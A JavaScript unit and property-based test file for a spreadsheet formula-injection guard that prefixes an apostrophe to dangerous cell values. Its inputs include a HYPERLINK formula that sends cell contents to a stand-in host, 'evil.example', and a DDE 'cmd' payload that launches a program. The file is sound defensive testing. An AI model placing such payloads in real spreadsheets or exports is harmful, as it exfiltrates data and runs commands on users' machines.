import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { guardCell, unguardCell } from './guarded-cell.js';

const SIGNS = ['=', '+', '-', '@', "'", '\t', '\r', '\n', '1', '.', 'a', ' ', '＝'];
const cell = fc.oneof(fc.string({ unit: fc.constantFrom(...SIGNS), maxLength: 6 }), fc.string());

describe('guardCell', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    "'=1",
    "''=1",
  ])('puts an apostrophe before %j', (text) => {
    expect(guardCell(text)).toBe(`'${text}`);
  });

  it.each(['', 'Mug', '-30', '+20', '-1.5', '12', 'a=b', "'", "'tis", '2026-11-22', ' =1'])('leaves %j', (text) => {
    expect(guardCell(text)).toBe(text);
  });

  it('leaves nothing that begins as a formula, but for numbers', () => {
    fc.assert(fc.property(cell, (text) => /^(?![=@\t\r\n＝])(?![+-](?!\d+(\.\d+)?$))/.test(guardCell(text))));
  });

  it('is taken back by unguardCell, whatever it was given', () => {
    fc.assert(fc.property(cell, (text) => unguardCell(guardCell(text)) === text));
  });
});

describe('unguardCell', () => {
  it.each(["'tis", "'", 'Mug', '=1', "''", "'30"])('leaves %j, which no guard has made', (text) => {
    expect(unguardCell(text)).toBe(text);
  });
});
